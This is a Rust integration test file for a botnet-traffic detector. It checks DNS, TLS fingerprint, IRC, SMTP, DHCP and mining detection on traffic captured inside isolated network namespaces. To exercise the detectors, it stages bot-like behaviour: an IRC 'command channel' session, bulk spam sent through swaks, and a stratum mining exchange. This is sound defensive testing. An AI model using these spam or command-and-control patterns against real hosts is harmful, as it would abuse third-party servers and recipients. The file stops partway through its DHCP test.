//! The application summaries and the protocol detectors on traffic made by real programs, end to
//! end: each test builds a LAN of two network namespaces (`tests/common/netns.rs`: a router
//! that also holds the "outside" servers on 198.18.0.0/15 addresses, and a client, the home
//! host(s) of 10.77.0.0/24), runs Debian's servers and clients across it while tcpdump captures
//! the client's interface, then reads the capture with `botd flows --format json` (each flow's
//! `App`) and `botd analyze --json` (the hosts' rules, weak findings, levels and devices).
//!
//! * DNS: dnsmasq answers a name (rcode 0 and the address), says NXDOMAIN (3) for a blocked one
//!   and REFUSED (5) for one it does not serve, asked by busybox's nslookup; curl then fetches
//!   a page by name from busybox's httpd (Host and User-Agent).
//! * TLS: `openssl s_server` with a certificate the test makes; curl and `openssl s_client`, each
//!   twice (SNI and ALPN as sent, JA3, JA4 stable per client), s_client over TLS 1.2 (the
//!   certificate's name), and a client without SNI to a non-HTTPS port (`raw-address`).
//! * IRC: ngircd with a bot-like client (`irc` rule, red) and a person (a weak finding only).
//! * SMTP: aiosmtpd (Debian's python3-aiosmtpd) and swaks: mail to three outside servers
//!   (`spam`), mail to one (the weak `smtp-client`).
//! * DHCP: dnsmasq leases an address to busybox's udhcpc in the other namespace (hostname, MAC);
//!   the device is named with its host.
//! * dns-tunnel: iodine through dnsmasq to iodined, data carried over the tunnel.
//! * fake-browser: Chromium (a real browser) and curl dressed as Firefox fetching a shell script
//!   by address (also `exe-download`).
//! * miner: no miner is packaged by Debian (`apt-cache search xmrig cpuminer` finds nothing), so
//!   a stratum v1 dialogue (subscribe, authorize, notify, submit) between two sockets of this
//!   test over a real TCP connection across the namespaces.
//!
//! Every test fails (never skips) when a tool is missing, naming the Debian package;
//! `tests/run.sh` installs them. Every wait is bounded; namespaces, daemons and temporary files
//! go on drop, panics included (`BOTD_NETNS_KEEP=1` keeps each test's folder: the capture, the
//! daemons' logs, botd's configuration and analysis).

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::Command;
use std::sync::mpsc;
use std::time::{Duration, Instant};

use serde_json::Value;

#[path = "common/netns.rs"]
mod netns;
use netns::{
    CLIENT_IF, Capture, Daemon, Lan, ROUTER, TempDir, Tool, botd_analyze, botd_flows, require, sh,
    tool,
};

// ------------------------------------------------------------------------------------------
// Reading botd's output.

/// The flows whose application summary is `protocol`.
fn app<'a>(flows: &'a [Value], protocol: &str) -> Vec<&'a Value> {
    flows
        .iter()
        .filter(|f| f["App"]["protocol"] == protocol)
        .collect()
}

/// One line per flow with a recognised protocol, for failure messages.
fn dump(flows: &[Value]) -> String {
    flows
        .iter()
        .filter(|f| f["App"]["protocol"].is_string())
        .map(|f| {
            format!(
                "{} {}:{} -> {}:{} {}",
                f["Proto"].as_str().unwrap_or("?"),
                f["SrcAddr"].as_str().unwrap_or("?"),
                f["Sport"].as_str().unwrap_or("?"),
                f["DstAddr"].as_str().unwrap_or("?"),
                f["Dport"].as_str().unwrap_or("?"),
                f["App"]
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn from_to(f: &Value, src: &str, dst: &str, dport: &str) -> bool {
    f["SrcAddr"] == src && f["DstAddr"] == dst && f["Dport"] == dport
}

/// The home host `addr` of an analysis.
fn host<'a>(analysis: &'a Value, addr: &str) -> &'a Value {
    analysis["hosts"]
        .as_array()
        .and_then(|h| h.iter().find(|h| h["address"] == addr))
        .unwrap_or_else(|| panic!("no host {addr} in the analysis: {:#}", analysis["hosts"]))
}

/// Every text of a host's windows' `key` list (`rules` or `weak`).
fn texts(host: &Value, key: &str) -> Vec<String> {
    host["windows"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|w| w[key].as_array().cloned().unwrap_or_default())
        .filter_map(|v| v.as_str().map(String::from))
        .collect()
}

fn rules(host: &Value) -> Vec<String> {
    texts(host, "rules")
}

fn weak(host: &Value) -> Vec<String> {
    texts(host, "weak")
}

/// The texts of `list` that name the detector `rule` (`"irc: ..."`).
fn fired<'a>(list: &'a [String], rule: &str) -> Vec<&'a String> {
    let prefix = format!("{rule}: ");
    list.iter().filter(|t| t.starts_with(&prefix)).collect()
}

fn s<'a>(v: &'a Value, key: &str) -> &'a str {
    v[key].as_str().unwrap_or("")
}

// ------------------------------------------------------------------------------------------
// Servers and clients.

/// dnsmasq in the router namespace on the LAN interface, logging to stderr, with `extra`
/// options; waits until it serves.
fn dnsmasq(lan: &Lan, dir: &TempDir, extra: &[&str]) -> Daemon {
    let mut cmd = lan.router.exec("dnsmasq");
    cmd.args([
        "--keep-in-foreground",
        "--conf-file=/dev/null",
        "--log-facility=-",
        "--log-queries",
        "--user=root",
        "--no-resolv",
        "--no-hosts",
        "--bind-interfaces",
        // Its LAN address only (not the loopback, where the outside servers are).
        &format!("--listen-address={ROUTER}"),
        "--except-interface=lo",
    ])
    .arg(format!("--pid-file={}", dir.join("dnsmasq.pid").display()))
    .args(extra);
    let mut d = Daemon::spawn("dnsmasq", cmd, dir.join("dnsmasq.log"));
    d.wait_log("started, version", 10);
    d
}

/// A stratum v1 pool at `addr` in the router namespace: answers one miner's subscribe and
/// authorize, sends a job, accepts its share. Listening when this returns; the thread returns
/// the lines it read.
fn stratum_pool(lan: &Lan, addr: &'static str) -> std::thread::JoinHandle<Vec<String>> {
    let (ready, listening) = mpsc::channel();
    let pool = lan.router.thread(move || {
        let l = TcpListener::bind(addr).unwrap_or_else(|e| panic!("bind {addr}: {e}"));
        l.set_nonblocking(true).unwrap();
        ready.send(()).unwrap();
        let deadline = Instant::now() + Duration::from_secs(20);
        let conn = loop {
            match l.accept() {
                Ok((c, _)) => break c,
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                    assert!(Instant::now() < deadline, "no miner came to {addr}");
                    std::thread::sleep(Duration::from_millis(20));
                }
                Err(e) => panic!("accept {addr}: {e}"),
            }
        };
        conn.set_nonblocking(false).unwrap();
        conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        let mut w = conn.try_clone().unwrap();
        let mut seen = Vec::new();
        for line in BufReader::new(conn).lines() {
            let line = line.unwrap_or_else(|e| panic!("pool read: {e}; read so far {seen:?}"));
            let reply = if line.contains("\"mining.subscribe\"") {
                "{\"id\":1,\"result\":[[[\"mining.set_difficulty\",\"b4b6693b72a50c7116db18d6497cac52\"],[\"mining.notify\",\"ae6812eb4cd7735a302a8a9dd95cf71f\"]],\"08000002\",4],\"error\":null}\n".to_string()
            } else if line.contains("\"mining.authorize\"") {
                "{\"id\":2,\"result\":true,\"error\":null}\n\
                 {\"id\":null,\"method\":\"mining.set_difficulty\",\"params\":[2]}\n\
                 {\"id\":null,\"method\":\"mining.notify\",\"params\":[\"bf\",\"4d16b6f85af6e2198f44ae2a6de67f78487ae5611b77c6c0440b921e00000000\",\"01000000010000000000000000000000000000000000000000000000000000000000000000ffffffff20020862062f503253482f04b8864e5008\",\"072f736c7573682f000000000100f2052a010000001976a914d23fcdf86f7e756a64a7a9688ef9903327048ed988ac00000000\",[],\"00000002\",\"1c2ac4af\",\"504e86b9\",false]}\n".to_string()
            } else if line.contains("\"mining.submit\"") {
                "{\"id\":4,\"result\":true,\"error\":null}\n".to_string()
            } else {
                String::new()
            };
            seen.push(line);
            if reply.is_empty() {
                continue;
            }
            w.write_all(reply.as_bytes()).unwrap();
            if seen.last().is_some_and(|l| l.contains("\"mining.submit\"")) {
                break;
            }
        }
        seen
    });
    listening
        .recv_timeout(Duration::from_secs(10))
        .expect("the pool listens");
    pool
}

/// A miner in the client namespace: subscribes, authorizes as `worker`, takes the job, submits
/// a share. Returns the pool's lines.
fn stratum_miner(lan: &Lan, pool: &'static str, worker: &'static str) -> Vec<String> {
    lan.client
        .thread(move || {
            let c = TcpStream::connect_timeout(&pool.parse().unwrap(), Duration::from_secs(5))
                .unwrap_or_else(|e| panic!("connect {pool}: {e}"));
            c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let mut w = c.try_clone().unwrap();
            let mut r = BufReader::new(c);
            let mut got = Vec::new();
            let mut read_until = |needle: &str, got: &mut Vec<String>| loop {
                let mut line = String::new();
                let n = r.read_line(&mut line).unwrap_or_else(|e| {
                    panic!("miner read, waiting for {needle}: {e}; read {got:?}")
                });
                assert!(n > 0, "the pool closed before {needle}: {got:?}");
                let found = line.contains(needle);
                got.push(line);
                if found {
                    return;
                }
            };
            w.write_all(
                b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer-multi/1.3.7\"]}\n",
            )
            .unwrap();
            read_until("\"result\"", &mut got);
            w.write_all(
                format!(
                    "{{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"{worker}\",\"x\"]}}\n"
                )
                .as_bytes(),
            )
            .unwrap();
            read_until("\"mining.notify\"", &mut got);
            w.write_all(
                format!(
                    "{{\"id\":4,\"method\":\"mining.submit\",\"params\":[\"{worker}\",\"bf\",\"00000001\",\"504e86ed\",\"b2957c02\"]}}\n"
                )
                .as_bytes(),
            )
            .unwrap();
            read_until("\"id\":4", &mut got);
            got
        })
        .join()
        .unwrap()
}

/// An IRC client session in the client namespace: registers as `nick`, joins `channel`, says
/// `text` there and quits. Returns the server's lines.
fn irc_session(
    lan: &Lan,
    server: &'static str,
    nick: &'static str,
    channel: &'static str,
    text: &'static str,
) -> Vec<String> {
    lan.client
        .thread(move || {
            let c = TcpStream::connect_timeout(&server.parse().unwrap(), Duration::from_secs(5))
                .unwrap_or_else(|e| panic!("connect {server}: {e}"));
            c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let mut w = c.try_clone().unwrap();
            let mut r = BufReader::new(c);
            let mut got: Vec<String> = Vec::new();
            // Reads lines up to one containing `needle` (None: to the end of the connection).
            let mut read_until = |needle: Option<&str>, got: &mut Vec<String>| loop {
                let mut line = String::new();
                let n = r
                    .read_line(&mut line)
                    .unwrap_or_else(|e| panic!("IRC read, waiting for {needle:?}: {e}; {got:?}"));
                if n == 0 {
                    assert!(needle.is_none(), "server closed before {needle:?}: {got:?}");
                    return;
                }
                let found = needle.is_some_and(|n| line.contains(n));
                got.push(line);
                if found {
                    return;
                }
            };
            w.write_all(format!("NICK {nick}\r\nUSER bot 0 * :{nick}\r\n").as_bytes())
                .unwrap();
            read_until(Some(&format!(" 001 {nick} ")), &mut got);
            w.write_all(format!("JOIN {channel}\r\n").as_bytes())
                .unwrap();
            // End of the channel's names: the join went through.
            read_until(Some(" 366 "), &mut got);
            w.write_all(format!("PRIVMSG {channel} :{text}\r\nQUIT :done\r\n").as_bytes())
                .unwrap();
            read_until(None, &mut got);
            got
        })
        .join()
        .unwrap()
}

// ------------------------------------------------------------------------------------------
// DNS and HTTP.

#[test]
#[ignore = "system: root, network namespaces, tcpdump and the servers and clients tests/run.sh installs"]
fn dnsmasq_answers_nxdomain_refused_and_curl_fetches_by_name() {
    require(&[
        tool("dnsmasq", "dnsmasq-base"),
        tool("busybox", "busybox"),
        tool("curl", "curl"),
    ]);
    let dir = TempDir::new("np-dns");
    let lan = Lan::new("np-dns", "02:77:00:00:01:02");
    lan.client_addrs(&["10.77.0.2"]);
    lan.outside(&["198.18.0.10"]);
    lan.client.set_resolver(ROUTER);
    let _dns = dnsmasq(
        &lan,
        &dir,
        &[
            "--address=/www.example.test/198.18.0.10",
            // A blocked domain: NXDOMAIN for it and every name under it.
            "--address=/blocked.test/",
        ],
    );
    let www = dir.join("www");
    std::fs::create_dir_all(&www).unwrap();
    std::fs::write(www.join("index.html"), "<p>botd netns page</p>\n").unwrap();
    let mut httpd_cmd = lan.router.exec("busybox");
    httpd_cmd
        .args(["httpd", "-f", "-p", "198.18.0.10:80", "-h"])
        .arg(&www);
    let _httpd = Daemon::spawn("busybox httpd", httpd_cmd, dir.join("httpd.log"));
    lan.router.wait_tcp("198.18.0.10:80", 10);

    let cap = Capture::start(&lan.client, CLIENT_IF, &dir);
    let ok = lan.client.run_ok(
        10,
        "busybox",
        &["nslookup", "-type=a", "www.example.test", ROUTER],
    );
    assert!(ok.contains("198.18.0.10"), "nslookup: {ok}");
    for (name, says) in [("x.blocked.test", "NXDOMAIN"), ("unknown.other", "REFUSED")] {
        let out = lan
            .client
            .run(10, "busybox", &["nslookup", "-type=a", name, ROUTER]);
        let text = String::from_utf8_lossy(&out.stdout).to_string()
            + &String::from_utf8_lossy(&out.stderr);
        assert!(text.contains(says), "nslookup {name}: {text}");
    }
    const UA: &str = "botd-netns-test/1.0";
    let page = lan.client.run_ok(
        10,
        "curl",
        &[
            "-4",
            "-sS",
            "--max-time",
            "5",
            "-A",
            UA,
            "http://www.example.test/",
        ],
    );
    assert!(page.contains("botd netns page"), "curl: {page}");
    let pcap = cap.stop();

    let flows = botd_flows(&pcap);
    let dns = app(&flows, "dns");
    let query = |name: &str| -> &Value {
        let f = dns
            .iter()
            .filter(|f| from_to(f, "10.77.0.2", ROUTER, "53"))
            .find(|f| f["App"]["qname"] == name && f["App"]["qtype"] == 1)
            .unwrap_or_else(|| panic!("no A query of {name}:\n{}", dump(&flows)));
        &f["App"]
    };
    // Answered: rcode 0, the address dnsmasq was told, a response seen.
    let www_q = query("www.example.test");
    assert_eq!(www_q["rcode"], 0, "{www_q}");
    assert_eq!(www_q["response"], true, "{www_q}");
    assert_eq!(www_q["answer_count"], 1, "{www_q}");
    assert_eq!(www_q["answers"][0]["addr"], "198.18.0.10", "{www_q}");
    // Refused by dnsmasq's blocklist (NXDOMAIN) and for a name it does not serve (REFUSED).
    let blocked = query("x.blocked.test");
    assert_eq!(blocked["rcode"], 3, "{blocked}");
    assert!(blocked["answers"].is_null(), "{blocked}");
    let refused = query("unknown.other");
    assert_eq!(refused["rcode"], 5, "{refused}");
    // curl's own lookup (glibc's resolver reading the namespace's resolv.conf) answered too.
    assert!(
        dns.iter()
            .filter(|f| f["App"]["qname"] == "www.example.test" && f["App"]["rcode"] == 0)
            .count()
            >= 2,
        "curl's lookup:\n{}",
        dump(&flows)
    );

    // HTTP: what curl sent and what busybox's httpd answered.
    let http = app(&flows, "http");
    let get = http
        .iter()
        .find(|f| from_to(f, "10.77.0.2", "198.18.0.10", "80"))
        .unwrap_or_else(|| panic!("no HTTP flow to 198.18.0.10:80:\n{}", dump(&flows)));
    let h = &get["App"];
    assert_eq!(s(h, "method"), "GET", "{h}");
    assert_eq!(s(h, "uri"), "/", "{h}");
    assert_eq!(s(h, "host"), "www.example.test", "{h}");
    assert_eq!(s(h, "user_agent"), UA, "{h}");
    assert_eq!(h["status"], 200, "{h}");
    assert_eq!(h["requests"], 1, "{h}");

    // A host that looked names up and fetched a page by name: no protocol detector fires.
    let analysis = botd_analyze(&pcap, &dir);
    let client = host(&analysis, "10.77.0.2");
    assert!(
        rules(client).is_empty() && weak(client).is_empty(),
        "benign DNS and HTTP fired: {client:#}"
    );
}

// ------------------------------------------------------------------------------------------
// TLS.

#[test]
#[ignore = "system: root, network namespaces, tcpdump and the servers and clients tests/run.sh installs"]
fn tls_sni_alpn_ja3_ja4_from_curl_and_openssl() {
    require(&[
        tool("openssl", "openssl"),
        tool("curl", "curl"),
        tool("tshark", "tshark"),
    ]);
    let dir = TempDir::new("np-tls");
    let lan = Lan::new("np-tls", "02:77:00:00:02:02");
    lan.client_addrs(&["10.77.0.2", "10.77.0.3"]);
    lan.outside(&["198.18.0.10", "198.18.0.11"]);
    // The second home host, 10.77.0.3, is the one that talks to 198.18.0.11.
    lan.route_from("198.18.0.11", "10.77.0.3");
    let (key, cert) = (dir.join("key.pem"), dir.join("cert.pem"));
    let out = Command::new("openssl")
        .args(["req", "-x509", "-newkey", "ec", "-pkeyopt"])
        .args(["ec_paramgen_curve:prime256v1", "-nodes", "-days", "2"])
        .args(["-subj", "/CN=botd-test.example", "-keyout"])
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "openssl req: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let server = |accept: &str, log: &str| {
        let mut cmd = lan.router.exec("openssl");
        cmd.args(["s_server", "-accept", accept, "-www", "-cert"])
            .arg(&cert)
            .arg("-key")
            .arg(&key);
        Daemon::spawn("openssl s_server", cmd, dir.join(log))
    };
    let _https = server("198.18.0.10:443", "s_server.log");
    let _other = server("198.18.0.11:8443", "s_server-8443.log");
    lan.router.wait_tcp("198.18.0.10:443", 10);
    lan.router.wait_tcp("198.18.0.11:8443", 10);

    let cap = Capture::start(&lan.client, CLIENT_IF, &dir);
    for _ in 0..2 {
        lan.client.run_ok(
            10,
            "curl",
            &[
                "-sS",
                "-k",
                "--http1.1",
                "--max-time",
                "5",
                "--resolve",
                "secure.example.test:443:198.18.0.10",
                "-o",
                "/dev/null",
                "https://secure.example.test/",
            ],
        );
    }
    let s_client = |args: &[&str]| {
        let mut all = vec!["s_client", "-connect"];
        all.extend_from_slice(args);
        let out = lan.client.run(10, "openssl", &all);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success() && text.contains("CONNECTED"),
            "openssl {all:?}: {text}{}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    for _ in 0..2 {
        s_client(&[
            "198.18.0.10:443",
            "-servername",
            "chat.example.test",
            "-alpn",
            "h2",
        ]);
    }
    // TLS 1.2: the certificate travels in clear.
    s_client(&[
        "198.18.0.10:443",
        "-servername",
        "legacy.example.test",
        "-tls1_2",
    ]);
    // Without a server name, twice, to a port other than HTTPS's: the raw-address detector.
    for _ in 0..2 {
        s_client(&["198.18.0.11:8443", "-noservername"]);
    }
    let pcap = cap.stop();

    let flows = botd_flows(&pcap);
    let tls = app(&flows, "tls");
    let by_sni = |sni: &str| -> Vec<&Value> {
        tls.iter()
            .filter(|f| from_to(f, "10.77.0.2", "198.18.0.10", "443"))
            .map(|f| &f["App"])
            .filter(|a| a["sni"] == sni)
            .collect()
    };
    let hex32 = |v: &Value| {
        v.as_str()
            .is_some_and(|h| h.len() == 32 && h.bytes().all(|b| b.is_ascii_hexdigit()))
    };
    // Each client twice: SNI and first ALPN as sent, a whole hello (JA3 and JA4), the same
    // fingerprints both times; JA4's first part says TLS 1.3 (t13), a domain SNI (d) and the
    // ALPN's first and last characters.
    for (sni, alpn, ja4_alpn) in [
        ("secure.example.test", "http/1.1", "h1"),
        ("chat.example.test", "h2", "h2"),
    ] {
        let hellos = by_sni(sni);
        assert_eq!(hellos.len(), 2, "SNI {sni}:\n{}", dump(&flows));
        for h in &hellos {
            assert_eq!(h["client_hello"], true, "{h}");
            assert_eq!(h["server_hello"], true, "{h}");
            assert_eq!(s(h, "alpn"), alpn, "{h}");
            assert!(hex32(&h["ja3"]), "JA3 {h}");
            let ja4 = s(h, "ja4");
            let a = ja4.split('_').next().unwrap_or("");
            assert!(
                a.starts_with("t13d") && a.ends_with(ja4_alpn) && ja4.split('_').count() == 3,
                "JA4 {ja4} for ALPN {alpn}: {h}"
            );
            assert!(h["hello_truncated"].is_null(), "{h}");
        }
        assert_eq!(hellos[0]["ja4"], hellos[1]["ja4"], "JA4 of {sni} changed");
        assert_eq!(hellos[0]["ja3"], hellos[1]["ja3"], "JA3 of {sni} changed");
    }
    assert_ne!(
        by_sni("secure.example.test")[0]["ja4"],
        by_sni("chat.example.test")[0]["ja4"],
        "curl and openssl s_client share a JA4"
    );
    // Every JA3 is Wireshark's (tshark's `tls.handshake.ja3` of the same ClientHello).
    let out = sh(Command::new("tshark")
        .arg("-r")
        .arg(&pcap)
        .args(["-Y", "tls.handshake.type == 1", "-T", "fields"])
        .args(["-e", "tcp.srcport", "-e", "tls.handshake.ja3"]));
    let wireshark: std::collections::HashMap<String, String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| l.split_once('\t'))
        .map(|(port, ja3)| (port.to_string(), ja3.to_string()))
        .collect();
    assert_eq!(wireshark.len(), 7, "tshark's ClientHellos: {wireshark:?}");
    for f in &tls {
        let port = s(f, "Sport");
        assert_eq!(
            Some(s(&f["App"], "ja3")),
            wireshark.get(port).map(String::as_str),
            "JA3 of the hello from port {port}: {}",
            f["App"]
        );
    }
    // TLS 1.2: version 1.2 offered and chosen (0x0303), the certificate's subject read.
    let legacy = by_sni("legacy.example.test");
    assert_eq!(legacy.len(), 1, "{}", dump(&flows));
    let l = legacy[0];
    assert!(s(l, "ja4").starts_with("t12d"), "{l}");
    assert_eq!(l["server_version"], 0x0303, "{l}");
    assert_eq!(s(l, "cert_subject_cn"), "botd-test.example", "{l}");
    // No server name: JA4 says so (i), no SNI kept.
    let bare: Vec<&Value> = tls
        .iter()
        .filter(|f| from_to(f, "10.77.0.3", "198.18.0.11", "8443"))
        .map(|f| &f["App"])
        .collect();
    assert_eq!(bare.len(), 2, "{}", dump(&flows));
    for b in bare {
        assert!(b["sni"].is_null(), "{b}");
        assert!(s(b, "ja4").starts_with("t13i"), "{b}");
    }

    let analysis = botd_analyze(&pcap, &dir);
    let named = host(&analysis, "10.77.0.2");
    assert!(
        fired(&rules(named), "raw-address").is_empty()
            && fired(&weak(named), "raw-address").is_empty(),
        "TLS with a server name counted as raw-address: {named:#}"
    );
    let raw = host(&analysis, "10.77.0.3");
    let r = rules(raw);
    let hit = fired(&r, "raw-address");
    assert!(
        hit.iter()
            .any(|t| t.contains("198.18.0.11 port 8443") && t.contains("TLS without a server name")),
        "no raw-address rule for 10.77.0.3: {raw:#}"
    );
    assert_eq!(raw["level"], "red", "{raw:#}");
}

// ------------------------------------------------------------------------------------------
// IRC.

#[test]
#[ignore = "system: root, network namespaces, tcpdump and the servers and clients tests/run.sh installs"]
fn ngircd_bot_dialogue_fires_irc_and_a_person_stays_weak() {
    require(&[tool("ngircd", "ngircd")]);
    let dir = TempDir::new("np-irc");
    let lan = Lan::new("np-irc", "02:77:00:00:03:02");
    lan.client_addrs(&["10.77.0.2", "10.77.0.3"]);
    lan.outside(&["198.18.0.20", "198.18.0.21"]);
    lan.route_from("198.18.0.21", "10.77.0.3");
    let conf = dir.write(
        "ngircd.conf",
        &format!(
            "[Global]\n\
             Name = irc.botd.test\n\
             Info = botd test network\n\
             Listen = 198.18.0.20,198.18.0.21\n\
             Ports = 6667\n\
             MotdPhrase = botd test\n\
             PidFile = {}\n\
             [Limits]\n\
             MaxNickLength = 16\n\
             [Options]\n\
             PAM = no\n\
             Ident = no\n\
             DNS = no\n",
            dir.join("ngircd.pid").display()
        ),
    );
    let mut cmd = lan.router.exec("ngircd");
    cmd.arg("--nodaemon").arg("--config").arg(&conf);
    let _ircd = Daemon::spawn("ngircd", cmd, dir.join("ngircd.log"));
    lan.router.wait_tcp("198.18.0.20:6667", 10);

    let cap = Capture::start(&lan.client, CLIENT_IF, &dir);
    // A bot: a nick tagged with its country and digits, a command channel.
    const BOT: &str = "[DEU]77310";
    let got = irc_session(
        &lan,
        "198.18.0.20:6667",
        BOT,
        "#cc",
        "[DEU] scan done: 58 hosts",
    );
    assert!(got.iter().any(|l| l.contains("JOIN")), "{got:?}");
    // A person on another home host.
    irc_session(&lan, "198.18.0.21:6667", "alice", "#debian", "hello all");
    let pcap = cap.stop();

    let flows = botd_flows(&pcap);
    let irc = app(&flows, "irc");
    let summary = |src: &str, dst: &str| -> &Value {
        &irc.iter()
            .find(|f| from_to(f, src, dst, "6667"))
            .unwrap_or_else(|| panic!("no IRC flow {src} -> {dst}:\n{}", dump(&flows)))["App"]
    };
    let b = summary("10.77.0.2", "198.18.0.20");
    assert_eq!(s(b, "nick"), BOT, "{b}");
    assert_eq!(s(b, "user"), "bot", "{b}");
    assert_eq!(s(b, "channel"), "#cc", "{b}");
    assert_eq!(b["joins"], 1, "{b}");
    assert!(b["privmsgs"].as_u64() >= Some(1), "{b}");
    assert_eq!(b["server_numeric"], true, "{b}");
    let p = summary("10.77.0.3", "198.18.0.21");
    assert_eq!(s(p, "nick"), "alice", "{p}");
    assert_eq!(s(p, "channel"), "#debian", "{p}");

    let analysis = botd_analyze(&pcap, &dir);
    let bot = host(&analysis, "10.77.0.2");
    let r = rules(bot);
    assert!(
        fired(&r, "irc")
            .iter()
            .any(|t| t.contains("198.18.0.20 port 6667") && t.contains(BOT) && t.contains("#cc")),
        "no irc rule for the bot: {bot:#}"
    );
    assert_eq!(bot["level"], "red", "{bot:#}");
    // People chat on IRC too: alone, a person's dialogue is weak evidence, the host not red.
    let person = host(&analysis, "10.77.0.3");
    assert!(fired(&rules(person), "irc").is_empty(), "{person:#}");
    assert!(
        fired(&weak(person), "irc")
            .iter()
            .any(|t| t.contains("alice")),
        "no weak irc finding for the person: {person:#}"
    );
    assert_ne!(person["level"], "red", "{person:#}");
}

// ------------------------------------------------------------------------------------------
// SMTP.

#[test]
#[ignore = "system: root, network namespaces, tcpdump and the servers and clients tests/run.sh installs"]
fn swaks_to_three_outside_servers_is_spam_and_to_one_is_weak() {
    require(&[
        tool("swaks", "swaks"),
        Tool {
            check: "/usr/bin/python3 -c 'import aiosmtpd'".into(),
            package: "python3-aiosmtpd",
        },
    ]);
    let dir = TempDir::new("np-smtp");
    let lan = Lan::new("np-smtp", "02:77:00:00:04:02");
    lan.client_addrs(&["10.77.0.2", "10.77.0.3"]);
    let servers = ["198.18.0.25", "198.18.0.26", "198.18.0.27"];
    lan.outside(&servers);
    lan.outside(&["198.18.0.28"]);
    lan.route_from("198.18.0.28", "10.77.0.3");
    // One aiosmtpd for every address of the router (discarding the mail).
    let mut cmd = lan.router.exec("/usr/bin/python3");
    cmd.args([
        "-m",
        "aiosmtpd",
        "-n",
        "-l",
        "0.0.0.0:25",
        "-c",
        "aiosmtpd.handlers.Sink",
    ]);
    let _mta = Daemon::spawn("aiosmtpd", cmd, dir.join("aiosmtpd.log"));
    lan.router.wait_tcp("198.18.0.25:25", 15);

    let cap = Capture::start(&lan.client, CLIENT_IF, &dir);
    let swaks = |server: &str, helo: &str, to: &str| {
        let out = lan.client.run_ok(
            15,
            "swaks",
            &[
                "--server",
                server,
                "--port",
                "25",
                "--helo",
                helo,
                "--from",
                "offers@deals.example",
                "--to",
                to,
                "--header",
                "Subject: cheap watches",
                "--body",
                "Buy now.",
                "--timeout",
                "5",
            ],
        );
        assert!(out.contains("250"), "swaks to {server}: {out}");
    };
    for (i, server) in servers.iter().enumerate() {
        swaks(
            server,
            "spambot.example",
            &format!("victim{i}@example.test"),
        );
    }
    swaks("198.18.0.28", "laptop.home.example", "friend@example.test");
    let pcap = cap.stop();

    let flows = botd_flows(&pcap);
    let smtp = app(&flows, "smtp");
    for server in servers {
        let m = &smtp
            .iter()
            .find(|f| from_to(f, "10.77.0.2", server, "25"))
            .unwrap_or_else(|| panic!("no SMTP flow to {server}:\n{}", dump(&flows)))["App"];
        assert_eq!(m["greeting"], true, "{m}");
        assert!(s(m, "banner").contains("SMTP"), "{m}");
        assert_eq!(s(m, "ehlo"), "spambot.example", "{m}");
        assert_eq!(m["mail_from"], true, "{m}");
        assert_eq!(m["rcpt_to"], 1, "{m}");
        assert_eq!(m["data"], true, "{m}");
        assert_eq!(m["starttls"], false, "{m}");
    }

    let analysis = botd_analyze(&pcap, &dir);
    let spammer = host(&analysis, "10.77.0.2");
    let r = rules(spammer);
    assert!(
        fired(&r, "spam")
            .iter()
            .any(|t| t.contains("3 outside mail servers") && t.contains("3 SMTP sessions")),
        "no spam rule: {spammer:#}"
    );
    assert_eq!(spammer["level"], "red", "{spammer:#}");
    // Mail to one server is what a mail client does: weak, not red alone.
    let sender = host(&analysis, "10.77.0.3");
    assert!(fired(&rules(sender), "spam").is_empty(), "{sender:#}");
    assert!(
        fired(&weak(sender), "smtp-client")
            .iter()
            .any(|t| t.contains("198.18.0.28 port 25") && t.contains("laptop.home.example")),
        "no weak smtp-client finding: {sender:#}"
    );
    assert_ne!(sender["level"], "red", "{sender:#}");
}

// ------------------------------------------------------------------------------------------
// DHCP.

#[test]
#[ignore = "system: root, network namespaces, tcpdump and the servers and clients tests/run.sh installs"]
fn dnsmasq_lease_to_udhcpc_names_the_device() {
    require(&[tool("dnsmasq", "dnsmasq-base"), tool("busybox", "busybox")]);
    const MAC: &str = "02:77:00:00:05:42";
    const NAME: &str = "kitchen-cam";
    let dir = TempDir::new("np-dhcp");
    let lan = Lan::new("np-dhcp", MAC);
    lan.outside(&["198.18.0.30"]);
    let leases = dir.join("leases");
    let mut dhcpd = dnsmasq(
        &lan,
        &dir,
        &[
            "--dhcp-range=10.77.0.100,10.77.0.150,255.255.255.0,1h",
            "--dhcp-option=option:router,10.77.0.1",
            "--dhcp-option=option:dns-server,10.77.0.1",
            "--dhcp-authoritative",
            "--log-dhcp",
            &format!("--dhcp-leasefile={}", leases.display()),
        ],
    );
    // udhcpc's script: the leased address and the default route on the interface.
    let script = dir.write(
        "udhcpc.sh",
        "#!/bin/sh\n\
         case \"$1\" in\n\
         bound|renew)\n\
         \tip addr add \"$ip/${mask:-24}\" dev \"$interface\"\n\
         \tfor r in $router; do ip route add default via \"$r\" dev \"$interface\"; break; done\n\
         \t;;\n\
         esac\n\
         exit 0\n",
    );
    make_executable(&script);
    let pool = stratum_pool(&lan, "198.18.0.30:3333");

    // dnsmasq pings an address for 3 s before it offers it, so udhcpc (a DISCOVER a second)
    // asks about four times: the DHCP flows carry several payloads per direction before the
    // REQUEST and the ACK that the summary must still read.
    let cap = Capture::start(&lan.client, CLIENT_IF, &dir);
    let script = script.to_str().unwrap().to_string();
    lan.client.run_ok(
        20,
        "busybox",
        &[
            "udhcpc",
            "-i",
            CLIENT_IF,
            "-f",
            "-q",
            "-n",
            "-t",
            "5",
            "-T",
            "1",
            "-x",
            &format!("hostname:{NAME}"),
            "-s",
            &script,
        ],
    );
    let log = dhcpd.wait_log("DHCPACK(", 5);
    let ack = log
        .lines()
        .find(|l| l.contains("DHCPACK(") && l.contains(MAC))
        .unwrap_or_else(|| panic!("no DHCPACK to {MAC}:\n{log}"));
